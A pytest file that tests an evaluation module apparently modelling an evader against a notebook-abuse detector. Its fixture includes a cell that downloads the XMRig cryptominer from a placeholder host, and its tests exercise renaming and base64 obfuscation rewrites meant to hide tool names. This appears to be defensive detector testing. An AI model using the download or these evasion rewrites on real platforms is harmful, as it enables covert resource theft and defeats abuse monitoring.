"""eval/evade.py models an evader; the recall figures under its rewrites are only as honest
as the rewrites. A rename that missed the fork's name where the file uses it would overstate
recall, and one that renamed a PyPI package would write a file that no longer runs."""
from __future__ import annotations

import ast
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "eval"))
import evade  # noqa: E402

CELL = """!git clone https://github.com/someone/Face-Fork.git
%cd Face-Fork
!pip install face-fork-lib so-vits-svc
import face_fork
!python face_fork/run.py --source a.jpg
!wget https://example.org/dl/xmrig-6.21.tar.gz && tar xf xmrig-6.21.tar.gz
"""


def rename(text: str) -> str:
    r = evade.Renamer()
    r.learn(text)
    return r(text)


def test_rename_follows_the_fetched_repository_everywhere():
    out = rename(CELL)
    assert "face-fork" not in out.lower().replace("face-fork-lib", "")
    assert "face_fork" not in out
    new = out.splitlines()[0].rsplit("/", 1)[-1].removesuffix(".git")
    assert f"%cd {new}" in out and f"import {new}" in out  # one new name however it is spelled


def test_rename_keeps_what_pip_installs_and_common_words():
    out = rename(CELL)
    assert "!pip install face-fork-lib so-vits-svc" in out
    text = "!git clone https://github.com/someone/models\n%cd models\n"
    assert "%cd models" in rename(text)


def test_rename_hides_tool_and_download_names():
    out = rename(CELL)
    assert "xmrig" not in out.replace("pip install", "")


def test_python_rewrites_still_parse():
    code = "import os\ncmd = 'echo hello world'\nos.system(cmd)\n"
    for variants in ({"split"}, {"b64shell"}, {"strip"}, {"strip", "rename", "b64shell", "split"}):
        ast.parse(evade.rewrite_code(code, "python", variants, evade.Renamer()))
